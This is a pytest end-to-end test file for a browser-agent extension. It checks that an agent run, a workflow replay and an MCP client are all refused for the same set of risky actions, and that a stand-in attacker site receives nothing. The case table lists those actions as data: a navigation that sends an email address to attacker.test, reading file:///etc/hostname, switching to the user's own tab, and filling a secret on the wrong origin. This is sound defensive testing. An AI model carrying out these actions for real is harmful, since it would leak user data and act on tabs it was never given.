"""One admission for the three drivers (#51): the same attacks, sent by an agent run (the scripted
model), a workflow replay (the destructive one through a heal turn) and an MCP client (the
official SDK's client, attached to the same browser), are refused by the same name, and the
"attacker" site, which logs every request it gets, receives none.

Who judges: the loopback attacker site's own request log (did anything leave the browser), the
extension's secret gate on the frame's real origin (secret_origin_refused), the side panel where
the MCP client's user answers, and the run's streamed step events for the other drivers."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import pytest

from tests.agent_calls import start_run
from tests.e2e.dispatch_helpers import tab_id_of
from tests.e2e.mcp_helpers import McpClient, SidePanel, admitted, ref_of, text_of
from waymark.host.core import secrets_store
from waymark.host.workflows import store
from waymark.host.workflows.model import Workflow

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(240)]

SHOP = """<!doctype html><title>Shop</title><h1>Your cart</h1>
<label>Account code <input name="code"></label>
<button type="button" onclick="document.title='ordered'">Place order</button>"""
SECRET, BANK = "SHOP_PW", "https://bank.test"
MCP_CLIENT = "Admission client"


@dataclass
class Where:
    """What a case's action points at: the attacker's port, the user's own tab."""

    port: int
    users_tab: int


@dataclass
class Case:
    code: str
    #: The action as the model (and the workflow) writes it, its element named by `target`.
    action: Callable[[Where], dict[str, Any]]
    #: The user is asked and says no.
    declined: bool = False
    task: str = "Check out the cart"


CASES = {
    "local file": Case("url_refused", lambda w: {"type": "navigate", "url": "file:///etc/hostname"}),
    "blocked domain": Case("url_refused", lambda w: {"type": "navigate", "url": f"http://blocked.test:{w.port}/c?d=cart"}),
    "foreign tab": Case("tab_refused", lambda w: {"type": "switch_tab", "tab_id": w.users_tab}),
    "secret on a wrong origin": Case("secret_origin_refused",
                                     lambda w: {"type": "fill", "target": {"name": "Account code"}, "text": f"{{{{secret:{SECRET}}}}}"},
                                     task=f"Enter the account code {{{{secret:{SECRET}}}}} and check out"),
    "destructive click": Case("declined", lambda w: {"type": "click", "target": {"name": "Place order"}}, declined=True),
    "egress with data": Case("egress_declined", lambda w: {"type": "navigate", "url": f"http://attacker.test:{w.port}/c?d=ada@example.com"},
                             declined=True),
}


@pytest.fixture
def setting(saved_settings, allowed_site, attacker_site, browser) -> Any:
    """The user's settings block blocked.test; a secret bound to another site (granted to the MCP
    client there); the shop page; the user's own tab, which no run started or opened."""
    saved_settings({"block_domains": ["blocked.test"]})
    secrets_store.set_secret(SECRET, "fake-shop-password-0451", [BANK])
    secrets_store.grant_secret(SECRET, MCP_CLIENT, BANK)
    allowed_site.pages["/shop"] = SHOP
    yield
    secrets_store.delete_secret(SECRET)


async def _where(browser: Any, allowed_site: Any, attacker_site: Any) -> tuple[Where, Any]:
    users = await browser.context.new_page()
    await users.goto(f"{allowed_site.url}/shop")
    return Where(attacker_site.port, await tab_id_of(browser.service_worker, users)), users


async def _streamed(sw: Any, method: str, params: dict[str, Any], declined: bool) -> list[dict[str, Any]]:
    """Start `method` from the service worker as the side panel does; say no to its question."""
    run = await start_run(sw, params, method)
    if declined:
        await run.answer(await run.wait_for("confirm"), False)
    await run.summary()
    return await run.events("step")


def _first_code(steps: list[dict[str, Any]]) -> str:
    codes = [e["error"]["code"] for e in steps if isinstance(e.get("error"), dict)]
    assert codes, steps
    return codes[0]


async def by_agent(case: Case, where: Where, browser: Any, start: str) -> str:
    steps = [{"intent": "Do it", "action": case.action(where), "verify": []}]
    if case.action(where)["type"] == "switch_tab":
        # Tab actions are offered once the run has a second tab of its own.
        steps.insert(0, {"intent": "Open the cart again", "action": {"type": "new_tab", "url": start}, "verify": []})
    params = {"task": case.task, "start_url": start, "script": {"steps": steps}, "screenshots": False,
              "budgets": {"max_steps": 4, "retries_per_step": 0, "max_replans": 0}}
    return _first_code(await _streamed(browser.service_worker, "agent.run", params, case.declined))


async def by_replay(case: Case, where: Where, browser: Any, start: str) -> str:
    action = case.action(where)
    target = action.pop("target", None)
    step: dict[str, Any] = {"intent": "Do it", "action": action}
    heal = None
    if action["type"] == "click":
        # Recorded on a control the page no longer has: the heal turn's executor picks the button.
        step["target"] = {"role": "menuitem", "name": "Old checkout"}
        heal = {"steps": [{"intent": "Do it", "action": {"type": "click", "target": target}}]}
    elif target is not None:
        step["target"] = {"role": "textbox", "name": target["name"]}
        step["secret_origin"] = BANK
    store.write(Workflow.model_validate({"name": "admission-case", "task": case.task, "start_url": start, "steps": [step]}), replace=True)
    params = {"name": "admission-case", "heal": heal is not None, **({"script": heal} if heal else {})}
    steps = await _streamed(browser.service_worker, "workflow.run", params, case.declined)
    if heal is not None:
        assert any(e.get("healing") for e in steps), steps
    return _first_code(steps)


async def by_mcp(case: Case, where: Where, browser: Any, start: str) -> str:
    action = case.action(where)
    panel = await SidePanel.open(browser)
    try:
        async with McpClient("--confirm", "ask", name=MCP_CLIENT) as client:
            await admitted(client, panel)
            page = await client.text("browser_tab_new", {"url": start})
            tool, args = _tool_of(action, page)
            calling = asyncio.ensure_future(client.call(tool, args))
            if case.declined:
                question = panel.page.get_by_role("alertdialog", name=f"Confirm for {MCP_CLIENT}")
                await question.get_by_role("button", name="Decline").click(timeout=30_000)
            result = await asyncio.wait_for(calling, 60)
    finally:
        await panel.close()
    said = text_of(result)
    # A refusal before sending is the tool's error; one the browser made is the action's FAILED line,
    # an error result too.
    found = re.search(r"FAILED (\w+): ", said) or re.match(r"(\w+): ", said)
    assert result.is_error and found, said
    return found.group(1)


def _tool_of(action: dict[str, Any], page: str) -> tuple[str, dict[str, Any]]:
    kind = action.pop("type")
    if "target" in action:
        action["ref"] = ref_of(page, action.pop("target")["name"])
    return {"navigate": "browser_navigate", "switch_tab": "browser_tab_select", "fill": "browser_fill",
            "click": "browser_click"}[kind], action


DRIVERS: dict[str, Callable[[Case, Where, Any, str], Awaitable[str]]] = {"agent": by_agent, "replay": by_replay, "mcp": by_mcp}


@pytest.mark.parametrize("driver", list(DRIVERS))
@pytest.mark.parametrize("name", list(CASES))
async def test_every_driver_meets_the_same_named_refusal_and_nothing_reaches_the_attacker(
        setting, browser, allowed_site, attacker_site, name, driver):
    case = CASES[name]
    where, users = await _where(browser, allowed_site, attacker_site)
    try:
        code = await DRIVERS[driver](case, where, browser, f"{allowed_site.url}/shop")
    finally:
        await users.close()
    assert code == case.code
    assert attacker_site.log == [], "a request reached the attacker"
